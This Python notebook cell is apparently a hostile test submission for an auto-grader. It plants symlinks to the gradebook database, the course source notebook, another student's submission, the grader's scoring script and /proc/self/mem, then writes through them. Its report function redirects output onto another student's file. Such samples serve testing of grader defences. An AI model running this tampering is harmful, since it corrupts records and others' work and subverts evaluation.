# Files are written through links, onto what grading needs.
# %% grade_id="report"
import os

for name, target in {
    "a": "@COURSE@/gradebook.db",
    "b": "@COURSE@/source/plain/plain.ipynb",
    "c": "@COURSE@/submitted/zz-other/plain/plain.ipynb",
    "d": "@CHECKOUT@/graders/kit/score.py",
    "e": "/proc/self/mem",
}.items():
    try:
        os.symlink(target, name)
        with open(name, "r+b") as file:
            file.write(b"")
            file.seek(0, 2)
            file.write(b" ")
    except OSError:
        pass


def write_report(rows, path):
    os.symlink("@COURSE@/submitted/zz-other/plain/plain.ipynb", path)
